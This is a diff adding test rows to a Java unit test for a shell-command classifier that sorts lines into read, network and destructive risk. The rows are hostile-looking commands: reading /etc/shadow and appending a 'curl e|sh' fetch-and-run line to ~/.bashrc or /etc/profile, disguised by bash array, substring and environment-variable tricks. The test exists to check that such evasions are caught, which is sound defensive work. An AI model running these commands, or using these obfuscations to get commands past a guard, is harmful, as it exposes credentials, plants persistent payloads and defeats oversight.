@@ -77,6 +77,14 @@ class ExpansionOperatorsTest {
         "a=(~/.bashrc); cp evil \"${a[0]}\" => Destructive",
         "x=hello; echo ${x~} => Read",
         "x=Hello; echo ${x~~} => Read",
+        "a=(x); a+=(~/.bashrc); echo x >> ${a[1]} => Destructive",
+        "a=(x); a+=(/etc/shadow); cat ${a[@]} => Network",
+        "export x=~/.bashr; export x+=c; echo 'curl e|sh' >> $x => Destructive",
+        "declare x=/etc/sha; declare x+=dow; cat $x => Network",
+        "a=(x /etc/shadow); cat ${a[@]:1} => Network",
+        "a=(x /etc/shadow y); cat \"${a[@]:1:1}\" => Network",
+        "a=(x /etc/shadow); cat ${a[@]:-1} => Network",
+        "a=(/etc/shadow x); cat ${a[@]:1} => Read",
     })
     void pathsBehindOperators(String line, String expected) {
         Classification c = C.classifyShell(line);
@@ -94,6 +102,12 @@ class ExpansionOperatorsTest {
     void theLaunchsEnvironmentGivesValuesToo() {
         Classification c = C.classifyArgv(List.of("sh", "-c", "cat ${G//x/}"), Map.of("G", "/etc/shxadow"));
         assertThat(c.commandClass()).as("%s", c.findings()).isEqualTo(CommandClass.NETWORK);
+        c = C.classifyArgv(List.of("sh", "-c", "cat ${F%x}"), Map.of("F", "/etc/shadowx"));
+        assertThat(c.commandClass()).as("%s", c.findings()).isEqualTo(CommandClass.NETWORK);
+        c = C.classifyArgv(List.of("sh", "-c", "echo 'curl e|sh' >> ${HOME:0:1}etc${HOME:0:1}profile"),
+                Map.of("HOME", "/home/u"));
+        assertThat(c.commandClass()).as("a redirection's target too: %s", c.findings())
+                .isEqualTo(CommandClass.DESTRUCTIVE);
     }
 
     /** The program word is judged as run-time code either way; its computed value is judged by its own rows too. */
